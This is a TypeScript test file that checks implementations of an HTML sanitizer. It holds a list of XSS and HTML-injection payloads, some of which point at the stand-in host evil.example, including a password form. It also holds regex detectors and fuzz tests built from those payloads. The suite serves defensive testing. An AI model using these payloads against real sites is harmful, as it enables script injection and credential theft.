import type { HtmlSanitizer } from '@carillon/core';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<b onmouseover="alert(1)">x</b>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href=x>',
  '<style>body{background:url(x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background:u\\72l(x)">x</p>',
  '<p style="background:ur/**/l(x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x);-moz-binding:url(x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="color:red&quot; onclick=&quot;alert(1)">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<b',
  '<!DOCTYPE x><?xml version="1.0"?><![CDATA[<script>x</script>]]>',
];

const tagPattern = /<\s*[/!?a-zA-Z][^>]*>?/g;

/** Asserts that no element of a result runs, loads or covers anything. */
export function expectHarmless(html: string): void {
  for (const tag of html.match(tagPattern) ?? []) {
    expect(tag).not.toMatch(
      /<\s*(script|img|svg|math|iframe|object|embed|form|input|meta|base|link|style|template)\b/i,
    );
    // Quoted values may have any text, as long as it is not a link or a style.
    const bare = tag.replaceAll(/"[^"]*"/g, '""');
    expect(bare).not.toMatch(/\bon\w+\s*=/i);
    expect(tag).not.toMatch(/(href|style)\s*=\s*"?[^"]*(javascript|vbscript|data):/i);
    expect(tag).not.toMatch(/style\s*=\s*"[^"]*(url|expression|position|binding|\\|\/\*)/i);
  }
}

/** What every implementation of HtmlSanitizer must do. */
export function htmlConformance(name: string, open: () => HtmlSanitizer): void {
  describe(`${name}: HtmlSanitizer`, () => {
    test.each(attacks)('%j', async (attack) => {
      expectHarmless(await open().clean(attack));
      expectHarmless(await open().clean(`<div><table><tr><td>${attack}</td></tr></table>`));
    });

    test('any mixture of attacks and broken markup', async () => {
      const sanitizer = open();
      const parts = fc.array(
        fc.oneof(
          fc.constantFrom(...attacks),
          fc.constantFrom('<', '>', '"', "'", '&', '<p', '</', '\0'),
          fc.string(),
        ),
        { maxLength: 6 },
      );
      await fc.assert(
        fc.asyncProperty(parts, async (pieces) => {
          expectHarmless(await sanitizer.clean(pieces.join('')));
        }),
      );
    });

    test('text without markup stays as it is', async () => {
      expect(await open().clean('plain text, ünï → 🚀\nnext line')).toBe('plain text, ünï → 🚀\nnext line');
    });
  });
}
